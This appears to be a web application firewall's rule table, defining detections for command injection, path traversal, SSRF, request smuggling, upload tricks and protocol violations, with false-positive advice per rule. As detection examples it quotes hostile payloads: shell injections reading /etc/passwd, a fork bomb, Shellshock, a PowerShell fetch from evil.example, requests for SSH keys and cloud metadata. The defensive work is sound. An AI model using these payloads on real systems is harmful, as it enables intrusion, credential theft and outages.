    CommandInjectionEvasionTricks, "command-injection-evasion-tricks", "command-injection", "command-injection-unix", Off, [78], 403,
        "Commands broken up by characters that a shell drops, for example `?x=;c$@at /etc/passwd` or an unset variable inside a word as in `?x=cat$u /etc$u/passwd`.",
        "Enable it in front of CGI scripts and appliances that call a shell; Windows paths, formulas and LaTeX text give false positives.";
    CommandInjectionForkBomb, "command-injection-fork-bomb", "command-injection", "command-injection-unix", On, [78, 400], 403,
        "A shell function that starts itself without end, for example `?x=:(){ :|:%26 };:`, which uses up all processes of the host.",
        "Disable it only for teaching material, forums or code hosts where such snippets are quoted.";
    CommandInjectionShellshock, "command-injection-shellshock", "command-injection", "command-injection-unix", On, [78], 403,
        "A function definition in a header, cookie or parameter that unpatched Bash versions execute, for example `User-Agent: () { :;}; /bin/id`.",
        "Disable it where JavaScript or shell functions with this exact start are submitted as text, such as code hosts.";
    CommandInjectionWindowsCmd, "command-injection-windows-cmd", "command-injection", "command-injection-windows", On, [77, 78], 403,
        "Windows commands after a shell separator, for example `?f=%26 dir c:\\`, `?f=| type %SystemRoot%\\win.ini`, `?f=%26%26 net user guest2 Secret1 /add` or loops such as `?f=for /f %i in ('dir /b') do echo %i`.",
        "Disable it for remote management tools and help desks where staff paste batch commands.";
    CommandInjectionPowershell, "command-injection-powershell", "command-injection", "command-injection-windows", On, [78], 403,
        "PowerShell programs and commands, for example `?x=powershell -enc SQBFAFgA` or `?x=Invoke-WebRequest http://evil.example/a.ps1`.",
        "Disable it for automation platforms, endpoint management and knowledge bases in which PowerShell scripts are stored.";
    CommandInjectionSqliteShell, "command-injection-sqlite-shell", "command-injection", "command-injection-embedded-shells", Off, [78], 403,
        "Dot commands of the SQLite shell at the start of a value or after a line break or semicolon, for example `?q=.shell id`, `?q=1;%0a.system id` or `?q=;%0a.databases`.",
        "Enable it where an application passes input to the `sqlite3` program; lines that start with a dot in normal text can match.";
    LocalFileAccessDotDotPaths, "local-file-access-dot-dot-paths", "local-file-access", "", On, [22, 23], 403,
        "Parent directory steps in a path or value, plain or encoded, for example `?file=../../etc/passwd`, `/static/..%2f..%2fetc/passwd` or `?file=..\\..\\boot.ini`.",
        "Disable it on routes that exchange relative paths by design, such as source repositories, build tools or document link editors.";
    LocalFileAccessOsFiles, "local-file-access-os-files", "local-file-access", "", On, [22, 200], 403,
        "Names of system files that attackers read first, for example `?file=/etc/passwd`, `?file=/proc/self/environ` or `/boot.ini`.",
        "Disable it for administration tools, security training and support tickets that mention such files.";
    LocalFileAccessDotfiles, "local-file-access-dotfiles", "local-file-access", "", On, [22, 538], 403,
        "Hidden files and project files that should not be published, for example `/.git/config`, `/.env`, `?file=.ssh/id_rsa` or `/wp-config.php`.",
        "Disable it for code hosts and deployment tools that show or edit such files through their web interface.";
    LocalFileAccessAiToolFiles, "local-file-access-ai-tool-files", "local-file-access", "", On, [22, 538], 403,
        "Settings of coding assistants left in a web root, for example `/.claude/settings.json` or `/.cursor/mcp.json`, which can hold keys.",
        "Disable it for code hosts and repository browsers where such files are viewed as project content.";
    RemoteFileFetchIpUrls, "remote-file-fetch-ip-urls", "remote-file-fetch", "", On, [98], 403,
        "A parameter that holds a URL with a bare IP address, for example `?page=http://203.0.113.9/x.txt`, which a server may include or fetch.",
        "Disable it for webhook, camera or device registration, where users enter addresses of hosts without a name.";
    RemoteFileFetchSuspiciousParamNames, "remote-file-fetch-suspicious-param-names", "remote-file-fetch", "", On, [98], 403,
        "A URL in a parameter whose name is typical of file inclusion, for example `?include=http://evil.example/x` or `?template_path=ftp://evil.example/x`.",
        "Disable it for applications that use such a parameter name with URLs by design, for example a link shortener or preview service.";
    RemoteFileFetchTruncationTrick, "remote-file-fetch-truncation-trick", "remote-file-fetch", "", On, [98], 403,
        "A URL that ends with a question mark, so that a suffix added by the server is ignored, for example `?file=http://evil.example/x.txt?`.",
        "Disable it where users paste links that end with `?`, for example a link collection, analytics or share function.";
    RemoteFileFetchExternalUrls, "remote-file-fetch-external-urls", "remote-file-fetch", "", Off, [98, 918], 403,
        "A parameter that holds a URL of a host other than the one requested, for example `?img=https://other.example/a.png`.",
        "Enable it for applications that never take foreign URLs; leave it off with single sign-on, payment return addresses or webhooks.";
    OutboundRequestForgeryCloudMetadata, "outbound-request-forgery-cloud-metadata", "outbound-request-forgery", "", On, [918], 403,
        "Addresses of cloud metadata services, which hand out credentials, for example `?url=http://169.254.169.254/latest/meta-data`.",
        "Disable it only for tools that manage cloud instances and store these addresses as text, such as inventory or documentation.";
    OutboundRequestForgeryInternalAddresses, "outbound-request-forgery-internal-addresses", "outbound-request-forgery", "", On, [918], 403,
        "URLs of loopback, private or disguised hosts, for example `?url=http://localhost/`, `?url=http://10.0.0.5/` or `?url=http://2130706433/`.",
        "Disable it for administration tools, uptime monitors or device portals whose users register hosts of the internal network.";
    FileUploadAttacksCharsetTrick, "file-upload-attacks-charset-trick", "file-upload", "file-upload-attacks", On, [444], 403,
        "A multipart field that names an unusual character set for the form, as in `name=\"_charset_\" utf-7`, which makes the server decode other fields differently.",
        "Disable it for applications with clients that really send forms in another character set, for example Shift_JIS.";
    FileUploadAttacksContentTypeTrick, "file-upload-attacks-content-type-trick", "file-upload", "file-upload-attacks", On, [444], 403,
        "A multipart part whose content type carries an unexpected character set or broken syntax, for example `Content-Type: text/plain; charset=utf-7`.",
        "Disable it for upload clients that label their parts with a legacy character set, such as old document scanners.";
    FileUploadAttacksDeprecatedEncoding, "file-upload-attacks-deprecated-encoding", "file-upload", "file-upload-attacks", On, [444], 403,
        "A transfer encoding in a multipart part, which RFC 7578 deprecates and parsers treat differently, for example `Content-Transfer-Encoding: base64`.",
        "Disable it for mobile apps and older HTTP libraries that add `Content-Transfer-Encoding: binary` to every uploaded part.";
    FileUploadAttacksHeaderTricks, "file-upload-attacks-header-tricks", "file-upload", "file-upload-attacks", On, [444], 403,
        "Malformed part headers that parsers read differently: control characters or bytes outside ASCII, or a repeated field such as a second `Content-Disposition: form-data; name=\"b\"`.",
        "Disable it for old upload clients that put raw control or non-ASCII bytes into part headers and cannot be updated.";
    FileUploadLimitsMaxFileCount, "file-upload-limits-max-file-count", "file-upload", "file-upload-limits", On, [770], 403,
        "More files in one multipart request than `multipart.file_limit` allows, by default 10.",
        "Rather than disable it, raise `multipart.file_limit` on photo, scan or document batch routes; disable it only where any count is fine.";
    FileUploadLimitsMaxFileSize, "file-upload-limits-max-file-size", "file-upload", "file-upload-limits", On, [400, 434, 770], 403,
        "A single uploaded file larger than `multipart.file_size`, by default 10 MB.",
        "Rather than disable it, raise `multipart.file_size` and `accept.max_body_size` on routes for video, X-ray images or backups.";
    FileUploadLimitsMaxTotalSize, "file-upload-limits-max-total-size", "file-upload", "file-upload-limits", On, [400, 770], 413,
        "A multipart request whose parts together exceed `accept.max_body_size`, by default 10 MB.",
        "Rather than disable it, raise `accept.max_body_size` on routes that take several large files at once, such as print orders.";
    FileUploadLimitsAllowedTypes, "file-upload-limits-allowed-types", "file-upload", "file-upload-limits", On, [434], 403,
        "A file whose type is not in `multipart.allowed_types`, or whose signature contradicts its declared type, for example a PDF document sent as `filename=\"a.png\"`.",
        "Disable it where clients label files wrongly, such as old scanners that send every file with the same type.";
    FileUploadLimitsDoubleExtension, "file-upload-limits-double-extension", "file-upload", "file-upload-limits", On, [434], 403,
        "A file name with two extensions of which one is active content, for example `filename=\"invoice.pdf.exe\"` or `filename=\"photo.php.jpg\"`.",
        "Disable it, or set `multipart.double_extension` to false, for archives and code hosts where such names are genuine.";
    FileUploadLimitsExecutable, "file-upload-limits-executable", "file-upload", "file-upload-limits", On, [434], 403,
        "Uploaded files that a server or desktop would run or read as configuration, for example `filename=\"setup.exe\"`, `filename=\".htaccess\"` or `filename=\"web.config\"`.",
        "Disable it for software distribution, malware analysis or deployment routes where programs are uploaded on purpose.";
    HttpComplianceMalformedRequestLine, "http-compliance-malformed-request-line", "http-compliance", "http-compliance-request-framing", On, [444], 400,
        "A request line that does not follow RFC 9112, for example a tab before the method, an invalid method name or a space inside the target as in `GET /a b`.",
        "Leave it on: a message that cannot be parsed is refused in detect_only too, whatever is disabled. Fix the client instead.";
    HttpComplianceMultipartBoundaries, "http-compliance-multipart-boundaries", "http-compliance", "http-compliance-request-framing", On, [444], 403,
        "Multipart structure that parsers read differently, for example a missing final boundary or a semicolon inside of `name=\"fi;le\"`.",
        "Disable it for clients that send unusual file or field names with quotes, `;` or `=`, such as scan stations with fixed naming.";
    HttpComplianceContentLength, "http-compliance-content-length", "http-compliance", "http-compliance-request-framing", On, [444], 400,
        "A length that is not a plain decimal number or is given more than once, for example `Content-Length: 12x`, `Content-Length: +5` or `Content-Length: 5, 6`.",
        "Leave it on: a message whose length is in doubt is refused in detect_only too, whatever is disabled. Fix the client instead.";
    HttpComplianceGetWithBody, "http-compliance-get-with-body", "http-compliance", "http-compliance-request-framing", On, [444], 403,
        "A GET or HEAD request that carries a body, which RFC 9110 gives no meaning and many servers ignore or misread.",
        "Disable it for APIs that take a query document with GET, such as Elasticsearch-style search or some device management protocols.";
    HttpCompliancePostWithoutLength, "http-compliance-post-without-length", "http-compliance", "http-compliance-request-framing", Off, [444], 411,
        "A POST, PUT or PATCH over HTTP/1 with neither `Content-Length` nor `Transfer-Encoding`, for example `POST /login`; servers differ in where they take its end to be.",
        "Enable it in front of servers that wait for a body behind such a request; leave it off where scripts and build servers send an empty POST without a length.";
    HttpComplianceConflictingLength, "http-compliance-conflicting-length", "http-compliance", "http-compliance-request-framing", On, [444], 400,
        "A request with both a length and a transfer coding, for example `Content-Length: 3` beside `Transfer-Encoding: chunked`.",
        "Leave it on: servers would disagree where the body ends, so it is refused in detect_only too, whatever is disabled.";
    HttpComplianceHttpVersion, "http-compliance-http-version", "http-compliance", "http-compliance-request-framing", On, [444], 400,
        "A protocol version that the service does not speak or that is malformed, for example `GET / HTTP/4.0` or `GET / HTTP/1.x`.",
        "Leave it on: a version that the service does not speak cannot be forwarded. Clients that send a wrong one need an update.";
    HttpComplianceMethodOverrideParam, "http-compliance-method-override-param", "http-compliance", "http-compliance-request-framing", Off, [444], 403,
        "A parameter that asks the server to treat the request as another method, for example `POST /a?_method=DELETE`.",
        "Enable it for APIs that take each method directly; leave it off for Rails, Laravel or Symfony forms, which use `_method` by design.";
    HttpComplianceMethodOverride, "http-compliance-method-override", "http-compliance", "http-compliance-request-framing", On, [444], 403,
        "A header field that asks the server for a method that is not in `accept.methods`, or that comes with another method than POST, for example `X-HTTP-Method-Override: DELETE` on a GET.",
        "Rather than disable it, add the method to `accept.methods`; disable it for clients that send the field with PUT or DELETE as well.";
    HttpComplianceUriFragments, "http-compliance-uri-fragments", "http-compliance", "http-compliance-request-framing", On, [444], 403,
        "A raw number sign in the request target, for example `GET /page#top`; a fragment belongs to the browser and must not be sent (RFC 9112).",
        "Disable it for broken clients, such as some link checkers, that send the fragment and cannot be updated.";
    HttpComplianceMalformedBody, "http-compliance-malformed-body", "http-compliance", "http-compliance-request-framing", On, [20], 403,
        "A body that does not parse as its declared type, for example the JSON `{\"a\":1` or `{\"a\":1,\"a\":2}`, or broken XML.",
        "Disable it on routes whose clients declare one type and send another, such as legacy devices or an endpoint that accepts raw text.";
    HttpComplianceHostHeader, "http-compliance-host-header", "http-compliance", "http-compliance-headers", On, [20], 403,
        "A disguised address in place of a host name, for example `Host: 0x7f000001` or `Host: 2130706433`; an address in its usual form, such as 203.0.113.7, is weak evidence and never blocks by itself.",
        "Disable it for intranet services, appliances and health checks that are called by IP address as a rule.";
    HttpComplianceAcceptHeader, "http-compliance-accept-header", "http-compliance", "http-compliance-headers", Off, [20], 403,
        "A missing, empty or malformed list of accepted types, which browsers always send and simple bots often leave out, for example `Accept: everything`.",
        "Enable it for sites meant for browsers only; leave it off for APIs, webhooks and mobile apps, which may send no `Accept`.";
    HttpComplianceUserAgentHeader, "http-compliance-user-agent-header", "http-compliance", "http-compliance-headers", Off, [20], 403,
        "A missing or empty `User-Agent` header, which is typical of simple scripts.",
        "Enable it for sites meant for browsers only; leave it off for webhooks, device traffic and monitoring probes without a `User-Agent`.";
    HttpComplianceContentTypeHeader, "http-compliance-content-type-header", "http-compliance", "http-compliance-headers", On, [20], 403,
        "A malformed, repeated or contradictory type of the body, for example `Content-Type: text/xml; blah` or `Content-Type: text/plain; charset=garbage`.",
        "Disable it for integrations that send nonstandard parameters or a rare character set in `Content-Type` and cannot be changed.";
    HttpComplianceAcceptEncoding, "http-compliance-accept-encoding", "http-compliance", "http-compliance-headers", On, [20], 403,
        "An overlong or malformed list of codings, or one that names a coding that does not exist, for example `Accept-Encoding: foobar`.",
        "Disable it for special clients that negotiate a private coding, such as update agents with delta compression.";
    HttpComplianceRestrictedHeaders, "http-compliance-restricted-headers", "http-compliance", "http-compliance-headers", On, [20], 403,
        "Request headers that can change what a server does, for example `Proxy: http://203.0.113.7/` or `X-Original-URL: /admin`, or invalid directives as in `Cache-Control: max-age=never`.",
        "Disable it for clients that send such a field for a reason of their own, for example `Translate` of WebDAV; `If` and `Lock-Token` pass on the methods that use them.";
    HttpComplianceRangeHeader, "http-compliance-range-header", "http-compliance", "http-compliance-headers", On, [400], 403,
        "A malformed or excessive list of ranges, for example `Range: bytes=50-10`, or the obsolete `Request-Range: bytes=0-`.",
        "Disable it for PDF viewers, video players and download managers that ask for many ranges in one request.";
    HttpComplianceConnectionHeader, "http-compliance-connection-header", "http-compliance", "http-compliance-headers", On, [444], 403,
        "A repeated or contradictory connection option, for example `Connection: keep-alive, close`.",
        "Disable it behind old balancers or clients that add a second `Connection` value and cannot be changed.";
    HttpComplianceDoubleUrlEncoding, "http-compliance-double-url-encoding", "http-compliance", "http-compliance-character-encoding", Off, [177], 403,
        "Percent-encoding applied twice or done wrongly, for example `?file=%252e%252e` for two dots or `?q=%1G`.",
        "Enable it for applications that decode once and never pass URLs in parameters; login redirects and share links often encode twice.";
    HttpComplianceUtf8Tricks, "http-compliance-utf8-tricks", "http-compliance", "http-compliance-character-encoding", On, [176], 403,
        "Invalid or disguised UTF-8, for example the overlong `?file=..%c0%af` for a slash, the full-width `?q=%uff0f`, or escapes in form values such as `?q=\\u0061lert(1)`.",
        "Disable it for legacy applications with Latin-1 or Windows-1252 forms, or where users post text with `\\u` escapes.";
    HttpComplianceNullBytes, "http-compliance-null-bytes", "http-compliance", "http-compliance-character-encoding", On, [158], 403,
        "A zero byte in a path or parameter, for example `?file=photo.php%00.jpg`, which ends the string for programs written in C.",
        "Disable it for APIs that send binary data in parameters or in a body without a declared type, such as telemetry collectors.";
    HttpComplianceNonPrintableCharacters, "http-compliance-non-printable-characters", "http-compliance", "http-compliance-character-encoding", Off, [176], 403,
        "Control characters or bytes outside printable ASCII in parameters, headers or cookies, for example `?q=hi%13`.",
        "Enable it for machine APIs with pure ASCII values; leave it off where people enter names, addresses or text with line breaks.";
    HttpComplianceAllowedContentTypes, "http-compliance-allowed-content-types", "http-compliance", "http-compliance-allowed-shapes", On, [20], 415,
        "A body whose type is not listed in `accept.content_types`; with an empty list every type is accepted and this never fires.",
        "Rather than disable it, add the missing type to the route's list, for example `application/fhir+json` for a hospital interface.";
    HttpComplianceBlockedExtensions, "http-compliance-blocked-extensions", "http-compliance", "http-compliance-allowed-shapes", On, [538], 403,
        "Request paths that end in an extension of server, data or log files, for example `/dump.sql`, `/php.ini`, `/error.log`, `/dump.rdb` or `/app.config`.",
        "Disable it for download areas, code hosts and log viewers that serve files with such extensions on purpose.";
    HttpComplianceBackupFileProbes, "http-compliance-backup-file-probes", "http-compliance", "http-compliance-allowed-shapes", On, [530], 403,
        "Request paths that look for leftover copies of files, for example `/index.php.bak`, `/config.old` or `/page.php~`.",
        "Disable it for backup portals and file shares where users keep files with such names.";
    HttpAttacksRequestSmuggling, "http-attacks-request-smuggling", "http-attacks", "", On, [444], 400,
        "Messages whose end two servers could see differently, for example `Transfer-Encoding: xchunked`, or a second request line hidden in a value as in `?q=x%0d%0aGET http://shop.example/ HTTP/1.1`.",
        "Leave it on: ambiguous framing is refused in detect_only too. Only routes that receive raw HTTP dumps as text have reason to disable it.";
    HttpAttacksResponseSplitting, "http-attacks-response-splitting", "http-attacks", "", On, [113], 403,
        "Line breaks followed by response headers or markup in a value, for example `?q=x%0d%0aContent-Length: 0` or `?q=x%0d%0aSet-Cookie: a=b`.",
        "Disable it for tools that receive raw HTTP messages or mail as form text, such as an API tester or a header analyzer.";
    HttpAttacksHeaderCrlfInjection, "http-attacks-header-crlf-injection", "http-attacks", "", On, [93, 113], 403,
        "Carriage return or line feed characters in header values, parameter names or paths, for example `/a%0d%0aX-Injected: 1`.",
        "Disable it where multi-line text is sent in a query string or a name, such as log forwarders with text in the URL.";
    HttpAttacksDuplicateParameters, "http-attacks-duplicate-parameters", "http-attacks", "", Off, [235], 403,
        "The same parameter sent more than once, or odd array syntax, for example `?id=1&id=2` or `?foo[1]a[2]=x`.",
        "Enable it where every parameter occurs once, such as payment callbacks; leave it off for filters with several check boxes.";
    HttpAttacksRangeDos, "http-attacks-range-dos", "http-attacks", "", Off, [400], 403,
        "Any request for parts of a file, for example `Range: bytes=0-1023`, a field misused to make servers build very many partial answers at once.",
        "Enable it on API and form routes that serve no files; leave it off for video, PDF viewers and resumable downloads.";
    HttpAttacksApacheModProxy, "http-attacks-apache-mod-proxy", "http-attacks", "", On, [444], 403,
        "Targets that misuse the Unix socket syntax of Apache mod_proxy, for example `/?unix:AAAA|http://10.0.0.5/` (CVE-2021-40438).",
        "Disable it only if no upstream runs Apache with mod_proxy and queries of the route contain `unix:` with a pipe by design.";
    HttpAttacksRfc2109Cookies, "http-attacks-rfc2109-cookies", "http-attacks", "", On, [565], 403,
        "The obsolete version attribute of cookies, for example `Cookie: $Version=1; sid=x`, which some servers parse differently.",
        "Disable it for old Java or embedded clients that still send cookies in the form of RFC 2109.";
    HttpAttacksDangerousContentTypes, "http-attacks-dangerous-content-types", "http-attacks", "", On, [434], 403,
        "A second media type hidden in the parameters of the first, for example `Content-Type: application/x-www-form-urlencoded; boundary=\"application/json\"`.",
        "Disable it for clients that send `multipart/related` or signed messages with a `type` parameter, such as SOAP with attachments.";
    LdapInjection, "ldap-injection", "ldap-injection", "", On, [90], 403,
        "LDAP filter syntax that changes a directory query, for example `?user=*)(uid=*))(|(uid=*`.",
        "Disable it for directory administration tools and address book APIs that accept LDAP filters from their users.";
    MailProtocolInjection, "mail-protocol-injection", "mail-protocol-injection", "", On, [77, 93], 403,
        "Mail commands after a line break in a value, for example `?mail=%0d%0aRCPT TO:<a@b.example>` in a contact form, or IMAP and POP3 commands.",
        "Disable it for web mail, mail testing tools and gateways where whole messages with protocol text are submitted.";
    TemplateInjection, "template-injection", "template-injection", "", On, [94, 1336], 403,
        "Expressions that a server-side template engine would evaluate, for example `?q={{7*7}}`, `?q=${7*7}` or `?q={% if True %}1{% endif %}`.",
        "Disable it for newsletter, invoice or page editors in which trusted users write templates with placeholders.";
    DataUriAbuse, "data-uri-abuse", "data-uri-abuse", "", On, [79, 918], 403,
        "A data URI in a parameter, for example `?q=data:text/html;base64,PHNjcmlwdD4`, which can carry markup or code into a page or a fetch.",
        "Disable it for signature pads, avatar editors and rich text fields that send images as `data:image/png;base64`.";
    ServerDataLeakageDirectoryListing, "server-data-leakage-directory-listing", "server-data-leakage", "", On, [548], 403,
        "A directory listing made by the web server in a response body, for example `<title>Index of /backup</title><h1>Index of /backup</h1>`.",
        "Disable it for download mirrors and file archives that publish directory listings on purpose.";
    ServerDataLeakageCgiSource, "server-data-leakage-cgi-source", "server-data-leakage", "", On, [540], 403,
        "Source of a CGI script in a response body, for example `#!/usr/bin/perl` in its first line, instead of its output.",
        "Disable it for code hosts, script downloads and documentation that serve scripts as text.";
    ServerDataLeakageAspnetErrors, "server-data-leakage-aspnet-errors", "server-data-leakage", "", On, [209], 403,
        "ASP.NET exceptions in a response body, for example `ViewStateException: Invalid viewstate detected.` or `HttpParseException: Error parsing the HTTP request.`.",
        "Disable it on a staging route where developers need the details, or for documentation that lists these exceptions.";
    ServerDataLeakage5xxBodies, "server-data-leakage-5xx-bodies", "server-data-leakage", "", Off, [209], 403,
        "Any upstream response with a 5xx status, whose body may hold traces or configuration; the client gets the block answer instead.",
        "Enable it for public sites that never show details of failures; leave it off for APIs whose clients read 5xx error documents.";
    WebShellDetection, "web-shell-detection", "web-shell-detection", "", On, [94, 912], 403,
        "Pages of known web shells in a response body, for example the titles and menus of c99, r57 or WSO, a sign of a compromised server.",
        "Disable it only for security archives and training sites that show the source or screens of web shells as content.";
    ScannerDetectionUserAgent, "scanner-detection-user-agent", "scanner-detection", "", On, [200], 403,
        "A program name of a vulnerability scanner or attack tool, for example `User-Agent: sqlmap/1.8`, `User-Agent: Nikto` or `User-Agent: nuclei`.",
        "Disable it for the time of an agreed penetration test, or on a staging route that your own scanner visits every night.";
    SessionFixationCookieInjection, "session-fixation-cookie-injection", "session-fixation", "", On, [384], 403,
        "A value that sets a session cookie through script or markup, for example `?q=document.cookie=\"sessionid=1234; domain=.shop.example\"`.",
        "Disable it for developer forums, tag managers and code editors where such cookie code is submitted as text.";
    SessionFixationExternalReferer, "session-fixation-external-referer", "session-fixation", "", On, [384], 403,
        "A session identifier in the URL of a request that comes from another site, for example `?PHPSESSID=abc` with a foreign `Referer`.",
        "Disable it for portals that pass sessions by URL from a partner's site, such as old single sign-on or payment returns.";
    SessionFixationMissingReferer, "session-fixation-missing-referer", "session-fixation", "", On, [384], 403,
        "A session identifier in the URL of a request without a `Referer`, for example `?jsessionid=abc` opened from a prepared link.",
        "Disable it for applications with sessions in the URL whose links are opened from mail, apps or bookmarks.";
    Http2FrameFlood, "http2-frame-flood", "http2", "", On, [400], 403,
        "HTTP/2 frames that cost the server more than the client, for example rapid resets, PING or SETTINGS floods, or endless CONTINUATION frames.",
        "Leave it on: such connections are closed in detect_only too. Raise `protocol.http2_max_continuation_frames` for clients with huge headers.";
    Http2HeaderBomb, "http2-header-bomb", "http2", "", On, [400, 409], 403,
        "An HTTP/2 header block that grows when decoded to more than `protocol.http2_max_decoded_header_bytes`, by default 65,536 bytes.",
        "Leave it on. Raise the limit where single sign-on or gateways add very large cookies or tokens to each request.";
    Http2MaxStreams, "http2-max-streams", "http2", "", On, [400, 770], 403,
        "More streams open at once on one HTTP/2 connection than `protocol.http2_max_concurrent_streams`, by default 100.",
        "Rather than disable it, raise the limit for gRPC backends and gateways that send many calls over one connection.";
    RequestValidationMaxBodySize, "request-validation-max-body-size", "request-validation", "", On, [400, 770], 413,
        "A request body larger than `accept.max_body_size`, by default 10 MB, counted as sent and without chunk framing.",
        "Rather than disable it, raise the limit on upload routes; disable it only where the upstream limits sizes itself, as object storage does.";
    RequestValidationMaxUrlLength, "request-validation-max-url-length", "request-validation", "", On, [400], 414,
        "A request target, path and query together, longer than `accept.max_url_length`, by default 8,192 bytes.",
        "Rather than disable it, raise the limit for map, report or single sign-on routes with long queries; over 65,534 bytes is always refused.";
    RequestValidationMaxHeaderSize, "request-validation-max-header-size", "request-validation", "", On, [400], 431,
        "Header names and values that together exceed `accept.max_header_size`, by default 16 KB.",
        "Rather than disable it, raise the limit for single sign-on with large cookies or Kerberos tickets; over 1 MB is always refused.";
    RequestValidationMaxHeaderCount, "request-validation-max-header-count", "request-validation", "", On, [400], 431,
        "More header fields than `accept.max_header_count`, by default 100.",
        "Rather than disable it, raise the limit behind gateways that add many headers; over 10,000 fields are always refused.";
    RequestValidationArgumentLimits, "request-validation-argument-limits", "request-validation", "", On, [400], 403,
        "More than 1,000 arguments in one request, an argument name over 1,024 bytes, or a value over `inspection.max_inspect_size`.",
        "Disable it for bulk editors, survey tools and administration grids that send thousands of form fields in one request.";
    RequestValidationAllowedMethods, "request-validation-allowed-methods", "request-validation", "", On, [749], 405,
        "A method that is not listed in `accept.methods`, for example `TRACE /` or `PROPFIND /` with the default list.",
        "Rather than disable it, add the methods to the list, for example the WebDAV ones; CONNECT is refused in any case.";
    RequestValidationRequireHostHeader, "request-validation-require-host-header", "request-validation", "", On, [20], 400,
        "A request with a missing or empty `Host`, which HTTP/1.1 requires (RFC 9112).",
        "Disable it, or set `accept.require_host_header` to false, for old HTTP/1.0 devices and probes that send no `Host`.";
    RequestValidationRequireContentType, "request-validation-require-content-type", "request-validation", "", On, [20], 415,
        "A request that carries a body but no `Content-Type`, so that no parser can be chosen for it.",
        "Disable it for webhooks, telemetry devices and scripts that send a body without saying what it is.";
    RequestValidationSlowClients, "request-validation-slow-clients", "request-validation", "", On, [400], 408,
        "Clients that send headers later than `protocol.slow_request_header_timeout` (10s), or a body slower than 1,024 bytes a second.",
        "Rather than disable it, lower `protocol.slow_request_min_rate_bps` for mobile or satellite links; disable it for test rigs with paused input.";
    WebsocketMessages, "websocket-messages", "websocket-messages", "", On, [20], 403,
        "Messages that a client sends over a WebSocket: each is judged like a body before the upstream gets it, and frames have to follow RFC 6455. A violation closes the connection with code 1008, 1002, 1007 or 1009.",
        "Disable it where messages are code by design, such as a terminal, a notebook or an editor in the browser, or where clients need compression; the connection is a tunnel then.";
    JsonParsingMaxDepth, "json-parsing-max-depth", "json-parsing", "", On, [400, 674], 403,
        "A JSON body nested deeper than `inspection.json_depth`, by default 20 levels, for example thousands of opening brackets.",
        "Rather than disable it, raise the limit for documents that nest deeply, such as editor states, menus or FHIR bundles.";
    JsonParsingMaxKeys, "json-parsing-max-keys", "json-parsing", "", On, [400, 407], 403,
        "A JSON object with more keys than `inspection.json_keys`, by default 1,000, as used to make hash tables collide.",
        "Rather than disable it, raise the limit on bulk import, translation file and product catalog routes.";
    GraphqlMaxDepth, "graphql-max-depth", "graphql", "", On, [400, 674], 403,
        "A GraphQL document nested deeper than 50 levels, fragments written out, as a query or as a body; fragments in a circle too.",
        "Disable it where documents are made by programs that nest without end, such as exports of a content tree.";
    GraphqlMaxAliases, "graphql-max-aliases", "graphql", "", On, [400, 799], 403,
        "A GraphQL document with more than 500 aliases, fragments written out, as used to try many passwords in one request.",
        "Disable it where one document asks for many records by name on purpose, such as a dashboard that is put together by a program.";
    GraphqlMaxFields, "graphql-max-fields", "graphql", "", On, [400, 770], 403,
        "A GraphQL document that asks for more than 5,000 fields, fragments written out.",
        "Disable it for tools that read a whole model at once, such as a content export or a site generator.";
    GraphqlMaxDirectives, "graphql-max-directives", "graphql", "", On, [400, 770], 403,
        "A GraphQL document with more than 500 directives, which cost servers time before they reject them.",
        "Disable it where generated documents include or skip every field by a directive.";
    GraphqlMaxBatch, "graphql-max-batch", "graphql", "", On, [400, 799], 403,
        "More than 100 GraphQL documents in one request.",
        "Disable it where a gateway collects the documents of many clients into one request.";
    GraphqlIntrospection, "graphql-introspection", "graphql", "", Off, [200], 403,
        "A GraphQL document that asks for the schema, for example `{\"query\":\"{ __schema { types { name } } }\"}`.",
        "Enable it in production for APIs that are not public; development tools and code generators need the schema.";
    XmlParsingMaxDepth, "xml-parsing-max-depth", "xml-parsing", "", On, [400, 674], 403,
        "An XML body nested deeper than `inspection.xml_depth`, by default 20 elements.",
        "Rather than disable it, raise the limit for deep document formats, such as DocBook, office files or HL7 clinical documents.";
    XmlParsingEntityExpansion, "xml-parsing-entity-expansion", "xml-parsing", "", On, [776], 403,
        "An XML body that expands more entities than `inspection.xml_entities`, by default 100, as in the billion laughs attack.",
        "Rather than disable it, raise the limit for publishing formats that use many entities of their own document type.";
    ResourceLimitsMaxInspectionSize, "resource-limits-max-inspection-size", "resource-limits", "", Off, [400], 403,
        "A body longer than `inspection.max_inspect_size` (128 KB), whose rest is forwarded uninspected; it only logs and never blocks.",
        "Enable it where an audit must show what was not inspected, such as payment or patient data routes; large uploads log one event each.";
    ResourceLimitsMaxMemory, "resource-limits-max-memory", "resource-limits", "", On, [400, 770], 503,
        "A body above `inspection.max_memory_buffer` (128 KB) that cannot be spooled to disk, for example because the disk is full.",
        "Rather than disable it, free disk space or raise `inspection.max_memory_buffer` on machines without a writable disk.";
    ResourceLimitsDecompressionRatio, "resource-limits-decompression-ratio", "resource-limits", "", On, [409], 403,
        "A compressed body that inflates to more than `inspection.decompression_ratio_limit` times its size, by default 100, such as a zip bomb.",
        "Rather than disable it, raise the limit for log or metrics collectors whose repetitive data compresses very well.";
    ResourceLimitsEvaluationTimeout, "resource-limits-evaluation-timeout", "resource-limits", "", On, [400, 1333], 403,
        "A request whose rules need more CPU time than `inspection.evaluation_timeout`, by default 50ms; waiting for bytes does not count.",
        "Rather than disable it, raise the deadline on routes with large text or JSON bodies, or on slow machines.";
    OpenapiPathNotInSpec, "openapi-path-not-in-spec", "openapi", "", On, [20], 404,
        "A path that the route's OpenAPI document does not declare, for example `/v1/internal/debug`.",
        "Disable it while the document is incomplete; undeclared paths are still logged unless `openapi.shadow_api_logging` is false.";
    OpenapiMethodNotInSpec, "openapi-method-not-in-spec", "openapi", "", On, [749], 405,
        "A method that the OpenAPI document does not declare for the path, for example `DELETE /v1/orders` where only GET and POST are listed.",
        "Disable it while old clients use operations that are missing from the document, or for HEAD requests of monitoring tools.";
    OpenapiParameterMismatch, "openapi-parameter-mismatch", "openapi", "", On, [20], 422,
        "A path, query, header or cookie parameter that is missing or does not match its schema, for example `?limit=abc` for an integer.",
        "Disable it while clients send values that the document describes too strictly, for example an undocumented date format.";
    OpenapiBodyMismatch, "openapi-body-mismatch", "openapi", "", On, [20], 422,
        "A request body that does not match the schema of its operation, for example a missing required property or a string for a number.",
        "Disable it while the schemas lag behind the API; path, method and parameter checks then stay in force.";
    OpenapiContentTypeNotInSpec, "openapi-content-type-not-in-spec", "openapi", "", On, [20], 415,
        "A body whose type the operation does not declare, for example `Content-Type: text/xml` where only JSON is listed.",
        "Disable it for clients that label JSON as `text/plain`, until they or the document are corrected.";
